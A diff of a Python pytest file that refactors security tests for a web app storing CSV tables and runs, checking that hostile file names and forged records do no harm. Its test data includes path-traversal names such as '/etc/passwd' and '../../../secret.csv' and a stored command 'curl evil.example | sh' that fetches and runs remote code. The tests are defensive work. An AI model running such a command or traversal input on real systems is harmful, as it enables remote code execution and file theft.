@@ -13,14 +13,8 @@ from test_app import TOKEN, draft, open_page, table
 
 NAME, OTHER = "20260101-000000-aaaaaa", "20270101-000000-bbbbbb"
 TABLE = {"file": "a.csv", "shown": "a.csv"}
-GOOD = {
-    "state": "draft",
-    "tables": [TABLE],
-    "clinical": None,
-    "words": [],
-    "clusters": "auto",
-    "problem": "",
-}
+GOOD = {"state": "draft", "tables": [TABLE], "clinical": None, "words": [], "clusters": "auto",
+        "problem": ""}  # fmt: skip
 NAMES = ["../../../secret.csv", "../about.json", "..", ".", "", "/etc/passwd",
          "a/../../../../secret.csv", "..\\..\\secret.csv",
          "nul.csv", "a.csv\0", "-x.csv", "x" * 300 + ".csv", 5, None, [], {}]  # fmt: skip
@@ -68,7 +62,7 @@ def assert_harmless(client, damaged=True):
         answer = client.get(run + path)
         assert answer.status_code < 500 and "SECRET" not in answer.text
         assert not damaged or answer.status_code == 404
-    for path in (
+    changes = (
         "answer",
         "forget",
         "cancel",
@@ -76,7 +70,8 @@ def assert_harmless(client, damaged=True):
         "drop",
         "table?name=b.csv&kind=clinical",
         "fit",
-    ):
+    )
+    for path in changes:
         given = {"option": "match", "value": "loose", "clusters": "nothing that is taken"}
         answer = client.post(f"{run}/{path}", data=given | {"file": str(client.secret)})
         assert answer.status_code < 500 and "SECRET" not in answer.text
@@ -103,10 +98,7 @@ def test_values_of_a_wrong_kind_damage_one_row(client, field):
         assert client.get(f"/{TOKEN}/r/{NAME}").status_code in (200, 404)
         assert client.get(f"/{TOKEN}/r/{NAME}/state").status_code in (200, 404)
         assert client.get(f"/{TOKEN}/r/{NAME}/zip").status_code == 404
-    forge(
-        client,
-        {key: value for key, value in (GOOD | {field: object}).items() if value is not object},
-    )
+    forge(client, {key: value for key, value in GOOD.items() if key != field})
     assert_harmless(client, damaged=field in GOOD)
 
 
@@ -119,10 +111,8 @@ def test_files_that_are_no_about_damage_one_row(client, text):
 
 
 def test_a_run_of_a_stored_name_or_command_of_its_own_has_neither(client):
-    forge(
-        client,
-        GOOD | {"name": "../x", "command": "curl evil.example | sh", "seen": 5, "state": "failed"},
-    )
+    more = {"name": "../x", "command": "curl evil.example | sh", "seen": 5, "state": "failed"}
+    forge(client, GOOD | more)
     assert_harmless(client, damaged=False)
     assert "evil" not in client.get(f"/{TOKEN}/r/{NAME}").text
 
@@ -130,9 +120,8 @@ def test_a_run_of_a_stored_name_or_command_of_its_own_has_neither(client):
 @pytest.mark.parametrize("name", ["00000000-999999-aaaaaa", "20269999-000000-aaaaaa"])
 def test_a_folder_of_no_date_is_a_row(client, name):
     forge(client, GOOD, name)
-    assert (
-        client.get(f"/{TOKEN}/").status_code == client.get(f"/{TOKEN}/r/{name}").status_code == 200
-    )
+    for page in ("", f"r/{name}"):
+        assert client.get(f"/{TOKEN}/{page}").status_code == 200
 
 
 LINKS = ["about.json", "tables", "tables/a.csv", "tables/b.csv", "log.txt", "stages.txt", "run",
